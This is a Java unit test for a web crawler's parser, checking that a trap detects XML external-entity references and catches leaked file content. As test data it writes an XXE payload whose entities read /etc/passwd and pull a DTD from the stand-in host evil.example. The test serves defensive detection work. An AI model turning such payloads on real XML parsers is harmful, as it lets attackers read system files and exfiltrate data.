package org.joinedup.crawler.parse;

import static org.junit.jupiter.api.Assertions.assertSame;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.joinedup.crawler.fuzz.ExfiltrationTrap;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** The corpus test's trap must catch what it claims to catch, or a green corpus run proves nothing. */
class LocalFileTrapTest {
    @Test
    void armsSystemIdsAndCatchesMarkerAndReferencedFileContent(@TempDir Path dir) throws Exception {
        Path doc = dir.resolve("xxe.xml");
        Files.writeString(doc, "<!DOCTYPE r [<!ENTITY a SYSTEM \"file:///etc/passwd\"><!ENTITY b SYSTEM "
            + "'http://evil.example/x.dtd'>]><r>&a;&b;</r>");
        LocalFileTrap trap = LocalFileTrap.scan(List.of(doc));
        assertTrue(trap.referenced().contains("/etc/passwd"));

        String armed = new String(trap.arm(Files.readAllBytes(doc)), StandardCharsets.ISO_8859_1);
        assertTrue(armed.contains(ExfiltrationTrap.INSTANCE.fileUri()), armed);
        assertTrue(armed.contains(ExfiltrationTrap.INSTANCE.url()), armed);
        byte[] plain = "<r/>".getBytes(StandardCharsets.US_ASCII);
        assertSame(plain, trap.arm(plain));

        assertThrows(AssertionError.class,
            () -> trap.assertNothingLeaked("x", "title: " + ExfiltrationTrap.INSTANCE.marker()));
        if (Files.isReadable(Path.of("/etc/passwd"))) {
            String line = Files.readAllLines(Path.of("/etc/passwd")).get(0);
            assertThrows(AssertionError.class, () -> trap.assertNothingLeaked("x", "<p>" + line + "</p>"));
        }
        trap.assertNothingLeaked("x", "Gardener, Parks department");
    }
}
